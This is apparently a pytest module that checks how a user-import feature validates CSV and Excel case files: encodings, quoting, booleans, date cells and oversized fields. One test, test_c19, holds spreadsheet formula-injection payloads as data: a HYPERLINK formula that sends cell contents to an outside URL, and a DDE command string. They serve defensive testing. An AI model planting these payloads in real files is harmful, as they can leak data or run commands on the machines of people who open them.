"""The outcomes of the case files that the header and row rules decide.

``tests/data/cases/CASES.md`` describes each case file and the outcome it
must give, and each test is named after its file. Each file goes through the
stand-in reader of ``case_files``, then the real header and row rules.
Duplicates across rows and the database state are the pipeline's, so these
tests check only what each row decides on its own.
"""

from __future__ import annotations

import pytest

from maizeplus.imports.cells import DateCell
from maizeplus.imports.columns import (
    HeaderInvalid,
    TenantImportOptions,
    validate_header,
)
from maizeplus.imports.rules import RowValidator, ValidatedRow
from tests.imports.rules.case_files import CaseSheet, load_case
from tests.imports.rules.support import COUNTRIES, EMAIL_CHECKER, LANGUAGES

PROFILE_P0 = TenantImportOptions()


def validate_case(file_name: str) -> dict[int, ValidatedRow]:
    sheet = load_case(file_name)
    return {row.number: row for row in validate_sheet(sheet)}


def validate_sheet(sheet: CaseSheet) -> list[ValidatedRow]:
    columns = validate_header(sheet.header, PROFILE_P0)
    validator = RowValidator(
        columns,
        PROFILE_P0,
        languages=LANGUAGES,
        countries=COUNTRIES,
        email_checker=EMAIL_CHECKER,
    )
    return [validator.validate(row) for row in sheet.rows]


def error_columns(rows: dict[int, ValidatedRow]) -> dict[int, set[str]]:
    return {number: set(row.errors) for number, row in rows.items() if row.errors}


def user(row: ValidatedRow) -> tuple[object, ...]:
    return (
        row.email,
        row.cid,
        row.first_name,
        row.last_name,
        row.enabled,
        row.language_code,
        row.country_code,
    )


def test_c01_bom_on_first_header() -> None:
    rows = validate_case("C01-utf8-bom-crlf.csv")

    assert error_columns(rows) == {}
    assert user(rows[2]) == (
        "nicolo.ferri@example.com",
        None,
        "Nicolò",
        "Ferri",
        True,
        "it",
        "IT",
    )
    assert user(rows[3]) == (
        "zoe.martin@example.org",
        None,
        "Zoë",
        "Martin",
        False,
        "fr",
        "FR",
    )
    assert rows[2].parent_organizational_unit_code is None


def test_c03b_comma_line_in_email() -> None:
    rows = validate_case("C03b-one-row-comma-separated.csv")

    assert error_columns(rows) == {3: {"email", "first_name", "last_name"}}
    assert rows[3].errors["email"] == ["The email field must be a valid email address."]
    assert user(rows[2])[0] == "anna.verdi@example.com"
    assert user(rows[4]) == (
        "sofia.ricci@example.net",
        None,
        "Sofia",
        "Ricci",
        False,
        "it",
        "IT",
    )


def test_c04_quotes_and_line_breaks() -> None:
    rows = validate_case("C04-quoted-separator-newline-quotes.csv")

    assert error_columns(rows) == {6: {"email"}}
    assert sorted(rows) == [2, 3, 5, 6]
    assert rows[2].last_name == "Verdi; Bianchi"
    assert rows[3].first_name == "Giulia\nMaria"
    assert rows[5].first_name == 'Sofia "Sofi"'


def test_c05_header_case_and_spaces() -> None:
    rows = validate_case("C05-header-case-and-spaces.csv")

    assert error_columns(rows) == {}
    assert user(rows[2]) == (
        "elena.rossi@example.com",
        "E-01",
        "Elena",
        "Rossi",
        True,
        "it",
        "IT",
    )
    assert user(rows[3]) == (
        "paolo.neri@example.org",
        "P-02",
        "Paolo",
        "Neri",
        False,
        "en",
        "GB",
    )


def test_c07_duplicates_share_email_key() -> None:
    rows = validate_case("C07-duplicate-emails-in-file.xlsx")

    assert error_columns(rows) == {}
    assert rows[2].email == rows[3].email == rows[5].email == "zoe.martin@example.com"
    assert rows[4].email == "luca.bianchi@example.org"


def test_c08_email_stored_lower_case() -> None:
    rows = validate_case("C08-existing-user-email-case.csv")

    assert error_columns(rows) == {}
    assert user(rows[2]) == (
        "nicolo.ferri@example.com",
        "N-001",
        "Nicolò",
        "Ferri",
        True,
        "it",
        "IT",
    )


def test_c09_email_whitespace() -> None:
    rows = validate_case("C09-email-whitespace.csv")

    assert error_columns(rows) == {7: {"email"}, 8: {"email"}}
    assert [rows[number].email for number in range(2, 7)] == [
        "anna.verdi@example.com",
        "paolo.neri@example.com",
        "marta.galli@example.org",
        "elena.rossi@example.net",
        "sara.bruni@example.com",
    ]
    assert (rows[3].first_name, rows[3].last_name) == ("Paolo", "Neri")
    assert (rows[5].enabled, rows[5].language_code, rows[5].country_code) == (
        True,
        "it",
        "IT",
    )


def test_c12a_excel_boolean_cells() -> None:
    rows = validate_case("C12a-excel-boolean-cells.xlsx")

    assert error_columns(rows) == {6: {"enabled"}, 7: {"enabled"}}
    assert {number: row.enabled for number, row in rows.items() if not row.errors} == {
        2: True,
        3: False,
        4: False,
        5: False,
        8: True,
    }
    assert (rows[8].language_code, rows[8].country_code) == ("de", "SE")


def test_c12b_booleans_saved_as_csv() -> None:
    rows = validate_case("C12b-excel-booleans-saved-as-csv.csv")

    assert error_columns(rows) == {5: {"enabled"}, 6: {"enabled"}}
    assert [rows[number].enabled for number in (2, 3, 4)] == [True, False, False]


def test_c14_header_not_on_row_1() -> None:
    sheet = load_case("C14-header-on-row-3.xlsx")

    with pytest.raises(HeaderInvalid) as raised:
        validate_header(sheet.header, PROFILE_P0)

    assert list(raised.value.errors) == ["email", "first_name", "last_name"]


def test_c17_date_cells_in_cid() -> None:
    sheet = load_case("C17-date-cells-in-text-column.xlsx")
    rows = {row.number: row for row in validate_sheet(sheet)}

    assert isinstance(sheet.row(3).cells[1], DateCell)
    assert error_columns(rows) == {3: {"cid"}, 4: {"cid"}}
    for number in (3, 4):
        [message] = rows[number].errors["cid"]
        assert "Format the cid column as Text" in message
        for stored in ("45994", "45632", "2025-12-03", "3-Dec"):
            assert stored not in message
        assert rows[number].cid is None
    assert user(rows[2]) == (
        "chiara.moretti@example.com",
        "C-100",
        "Chiara",
        "Moretti",
        True,
        "it",
        "IT",
    )


def test_c19_formula_values_verbatim() -> None:
    rows = validate_case("C19-formula-injection-values.csv")

    assert error_columns(rows) == {}
    assert rows[2].first_name == '=HYPERLINK("http://example.net/?q="&A1,"Clicca qui")'
    assert rows[3].last_name == "=cmd|' /C calc'!A0"
    assert (rows[4].first_name, rows[4].last_name) == ("@SUM(1+1)", "+Lombardi")
    assert rows[5].cid == "-1+2"


def test_c20_huge_cells() -> None:
    rows = validate_case("C20-huge-cells.csv")

    assert error_columns(rows) == {3: {"last_name"}, 4: {"first_name"}}
    assert rows[3].errors["last_name"] == [
        "The last name field must not be greater than 255 characters."
    ]
    assert rows[4].errors["first_name"] == [
        "The first name field must not be greater than 255 characters."
    ]
    assert (rows[2].first_name, rows[5].last_name) == ("Anna", "Ricci")


@pytest.mark.parametrize(
    ("file_name", "expected"),
    [
        (
            "C23a-row-numbers.csv",
            {3: {"email"}, 5: {"language_id"}, 6: {"country_id"}, 9: {"last_name"}},
        ),
        (
            "C23b-row-numbers.xlsx",
            {3: {"email"}, 5: {"language_id"}, 7: {"first_name"}},
        ),
    ],
)
def test_c23_row_errors(file_name: str, expected: dict[int, set[str]]) -> None:
    rows = validate_case(file_name)

    assert error_columns(rows) == expected
